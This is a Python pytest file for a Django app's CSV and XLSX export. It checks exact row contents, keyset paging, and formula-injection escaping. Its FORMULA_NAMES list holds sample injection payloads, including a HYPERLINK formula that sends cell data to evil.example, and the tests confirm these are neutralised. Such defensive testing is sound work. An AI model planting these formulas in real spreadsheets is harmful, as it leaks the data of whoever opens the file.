"""Export files: exact CSV and XLSX contents, keyset paging, and formula-like text kept as text."""
import csv
from decimal import Decimal

import openpyxl
import pytest

from attribution.exports import files, jobs
from tests.attribution.exports.conftest import schedule
from tests.attribution.reporting_fixtures import BASE_HOUR, make_model, snapshot

pytestmark = pytest.mark.django_db

HEADER = list(files.EXPORT_COLUMNS)
EXPECTED_ROWS = [
    ["2024-03-01T00:00:00Z", str(BASE_HOUR), "20.5000", "4.0000", "16.5000", "412.50"],
    ["2024-03-01T01:00:00Z", str(BASE_HOUR + 3600), "5.0000", "0.0000", "5.0000", ""],
]
# Model names a hostile manager might choose (SPEC §9): each starts a formula or a DDE call.
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/leak?"&A2,"Click")', "+1+1", "-2+3", "@SUM(1)",
                 "\tcmd", "\rcmd"]


def _completed(export):
    jobs.process_pending_exports()
    export.refresh_from_db()
    assert export.status == "completed", export.last_error
    return export


def _csv_rows(export):
    with open(export.file_path, newline="") as handle:
        return list(csv.reader(handle))


def _xlsx_rows(export):
    sheet = openpyxl.load_workbook(export.file_path, read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_csv_export_contains_exactly_the_snapshot_rows(model_with_rows):
    export = _completed(schedule(model_with_rows))
    assert export.rows_exported == 2 and export.completed_at
    rows = _csv_rows(export)
    assert rows[0] == HEADER
    model = model_with_rows
    assert rows[1] == ["2024-03-01T00:00:00Z", str(BASE_HOUR), str(model.model_id), "Linear Model", "global", "",
                       "3", "2", "20.5000", "4.0000", "16.5000", "412.50"]
    assert [[r[0], r[1], r[8], r[9], r[10], r[11]] for r in rows[1:]] == EXPECTED_ROWS


def test_xlsx_export_reads_back_with_openpyxl(model_with_rows):
    export = _completed(schedule(model_with_rows, requested_format="xlsx", scope_type="campaign"))
    assert export.file_path.endswith(".xlsx") and export.rows_exported == 2
    rows = _xlsx_rows(export)
    assert rows[0] == HEADER
    # Same hour: keyset order is (date_hour, snapshot_id), so campaign 9 (inserted first) leads.
    assert [(r[4], r[5], r[6], Decimal(str(r[8])), Decimal(str(r[9])), Decimal(str(r[11]))) for r in rows[1:]] == [
        ("campaign", 9, 2, Decimal("12.25"), Decimal("3"), Decimal("308.33")),
        ("campaign", 4, 1, Decimal("8.25"), Decimal("1"), Decimal("725")),
    ]


def test_rows_are_paged_by_keyset_across_batches(model_with_rows, monkeypatch):
    monkeypatch.setattr(files, "EXPORT_BATCH_ROWS", 1)
    export = _completed(schedule(model_with_rows, scope_type="campaign"))
    assert [row[5] for row in _csv_rows(export)][1:] == ["9", "4"]


@pytest.fixture
def formula_models(tracker):
    """One model per formula-like name, each with one hour that loses money (negative profit)."""
    account = tracker.account()
    models = []
    for name in FORMULA_NAMES:
        model = make_model(account, name)
        snapshot(model, BASE_HOUR, clicks=1, conversions=1, revenue="1", cost="3")
        models.append(model)
    return models


def test_csv_writes_formula_like_text_with_a_quote_and_numbers_as_numbers(formula_models):
    for model, name in zip(formula_models, FORMULA_NAMES):
        (row,) = _csv_rows(_completed(schedule(model)))[1:]
        assert row[3] == "'" + name
        assert (row[10], row[11]) == ("-2.0000", "-66.67")  # negative numbers are not escaped


def test_xlsx_writes_formula_like_text_as_string_cells(formula_models):
    for model, name in zip(formula_models, FORMULA_NAMES):
        export = _completed(schedule(model, requested_format="xlsx"))
        sheet = openpyxl.load_workbook(export.file_path).active
        name_cell, profit_cell = sheet.cell(row=2, column=4), sheet.cell(row=2, column=11)
        # XML reads a bare CR back as LF; what matters is the string type.
        assert (name_cell.data_type, name_cell.value) == ("s", name.replace("\r", "\n"))
        assert profit_cell.data_type == "n" and profit_cell.value == -2
